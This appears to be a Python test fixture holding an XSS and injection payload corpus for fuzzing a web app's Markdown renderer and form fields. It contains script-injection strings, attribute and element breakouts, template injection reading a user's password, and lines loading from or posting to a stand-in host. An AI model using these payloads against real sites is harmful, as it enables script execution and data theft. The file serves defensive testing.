"""Hostile text that people might type: XSS payloads, Markdown tricks and odd characters.

One corpus for the whole suite. The Markdown tests feed XSS to the report renderer; the
form fuzz posts every payload to every text field. Each payload carries MARKER where it
tries to become markup, so a page scan can tell an injected attribute or tag from the
page's own.
"""

MARKER = "zqx"

# What a report narrative (Markdown) might contain to run script or leak data.
XSS = [
    "<script>alert(zqx)</script>",
    "<img src=x onerror=alert(zqx)>",
    '<a href="javascript:alert(zqx)">x</a>',
    "[click](javascript:alert(zqx))",
    "[click](JaVaScRiPt:alert(zqx))",
    "[click](&#106;avascript:alert(zqx))",
    "[click](  javascript:alert(zqx)  )",
    "[click](vbscript:msgbox(zqx))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(zqx)>",
    '<div hx-get="/o/acme/zqx" hx-trigger="load">x</div>',
    '<p onclick="alert(zqx)">x</p>',
    "<iframe src=https://evil.example/zqx></iframe>",
    "<svg><script>alert(zqx)</script></svg>",
    "<style>body{display:none}/*zqx*/</style>",
    '<a href="https://x.example" onmouseover="alert(zqx)">x</a>',
    '[x](https://x.example "title" onmouseover="alert(zqx)")',
    "![x](https://evil.example/zqx.png)",
    '![x" onerror="alert(zqx)](x)',
    "<!-- <script>alert(zqx)</script> -->",
    "`<script>alert(zqx)</script>`",
    "```html\n<script>alert(zqx)</script>\n```",
    "<form action=https://evil.example/zqx><input name=p></form>",
    "<object data=zqx></object><embed src=zqx>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/zqx'>",
    "[x](/o/acme/reports/zqx)",
    "[x](//evil.example/zqx)",
]

# Breaking out of the attribute, element or template a value is placed in.
BREAKOUTS = [
    '"><svg onload=alert(zqx)>',
    "'><img src=x onerror=alert(zqx)>",
    "</textarea><script>alert(zqx)</script>",
    "</title><script>alert(zqx)</script>",
    "</option></select><img src=x onerror=alert(zqx)>",
    '" hx-get="/zqx" hx-trigger="load',
    "' hx-on:click='alert(zqx)",
    '<div data-hx-get="/zqx" hx-on::load="alert(zqx)">x</div>',
    '<a href="data:text/html,<script>alert(zqx)</script>">x</a>',
    "javascript:alert(zqx)",
    " javascript:alert(zqx)",
    "vbscript:msgbox(zqx)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#zqx",
    "<zqx onmouseover=alert(zqx)>",
    "<ScRiPt>alert(zqx)</sCrIpT>",
    "<scr<script>ipt>alert(zqx)</script>",
    "&lt;script&gt;alert(zqx)&lt;/script&gt;",
    "&#60;script&#62;alert(zqx)&#60;/script&#62;",
    "%3Cscript%3Ealert(zqx)%3C/script%3E",
    "\\u003cscript\\u003ealert(zqx)\\u003c/script\\u003e",
    "]]><zqx/><![CDATA[",
    "{{ request.user.password }}{{ csrf_token }} zqx",
    "{% debug %}{% load static %} zqx",
    "${alert(zqx)} #{zqx} <%= zqx %>",
]

# Text that is not an attack but breaks naive code: encodings, controls, length.
ODD_TEXT = [
    "zqx\x00nul",
    "zqx\u202egnp.exe",
    "\ufeffzqx\u200b\u200d",
    "zqx\r\n\tline\x0bbreaks\x0c",
    "zqx \U0001f680 e\u0301 \u4e2d\u6587 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "zqx\x1b[31mred\x7f\x85",
    "zqx" + "A" * 10_000,
    "   ",
]

FORM_PAYLOADS = XSS + BREAKOUTS + ODD_TEXT
